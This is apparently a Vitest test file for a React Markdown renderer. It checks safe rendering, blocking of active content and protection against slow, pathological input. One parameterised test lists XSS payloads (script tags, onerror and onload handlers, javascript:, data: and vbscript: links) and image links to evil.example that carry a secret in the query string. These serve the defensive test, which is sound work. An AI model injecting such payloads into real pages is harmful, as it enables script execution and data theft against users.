import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { isTameMarkdown } from "./is-tame-markdown";
import { Markdown } from "./markdown";

const drawn = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

test("draws what people write", () => {
  const html = drawn(
    "# Title\n\nA **bold** [link](https://example.org/x) and\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
  );
  expect(html).toContain("<strong>bold</strong>");
  expect(html).toContain('rel="noopener noreferrer nofollow"');
  expect(html).toContain("<td>1</td>");
  expect(html).toContain("☑");
  expect(html).not.toContain("<h1");
});

test.each([
  "![x](https://evil.example/p?d=secret)",
  "![x][1]\n\n[1]: https://evil.example/p",
  '<img src="https://evil.example/p" onerror="alert(1)">',
  "<script>alert(1)</script>",
  '<svg onload="alert(1)">',
  '<link rel="prefetch" href="https://evil.example/">',
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x]( java\nscript:alert(1))",
  "<javascript:alert(1)>",
])("loads and runs nothing: %s", (text) => {
  const html = drawn(text);
  expect(html).not.toMatch(/<(?:img|script|svg|link|iframe|object|video|style|form)\b/i);
  expect(html).not.toMatch(/href="(?!https?:|mailto:)/i);
  expect(html).not.toMatch(/\son\w+="/i);
});

test.each([
  ["emphasis", "*["],
  ["brackets", "["],
  ["quotes", "> "],
  ["lists", "- "],
  ["underscores", "_a "],
  ["ticks", "`a``"],
  ["tables", "|a|\n|-|\n"],
  ["links", "[a](<b"],
  ["angle brackets", "<a<"],
  ["backslashes", "\\"],
])("does not hold the page up over %s without end", (_, piece) => {
  const longest = piece.repeat(Math.ceil(24_000 / piece.length)).slice(0, 24_000);
  expect(isTameMarkdown(`${longest} and more`)).toBe(false);
  // The most of it that is still drawn.
  let length = longest.length;
  while (!isTameMarkdown(longest.slice(0, length))) length = Math.floor(length * 0.9);
  const start = performance.now();
  drawn(longest.slice(0, length));
  // Generous: a crowded machine is several times slower than the page of one person.
  expect(performance.now() - start).toBeLessThan(5_000);
});
